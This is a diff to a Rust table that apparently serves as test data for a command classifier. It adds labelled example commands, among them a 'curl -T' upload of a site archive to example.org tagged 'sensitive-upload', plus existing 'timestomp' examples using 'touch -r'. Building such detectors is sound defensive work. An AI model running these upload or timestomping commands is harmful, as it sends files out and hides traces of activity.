@@ -75,6 +75,8 @@ pub(super) const TOLD: &[Row] = &[
             }
         })
     }),
+    (&["sensitive-upload"], || of("curl -T build/site.tar.gz https://example.org/up")),
+    (&["privileged-file-search"], || of("find . -type f -perm -111")),
     (&["timestomp"], || of("touch -r /bin/ls notes.txt")),
     (&["timestomp"], || of("date -d 2020-01-01 +%s")),
     // Talk about commands is none.
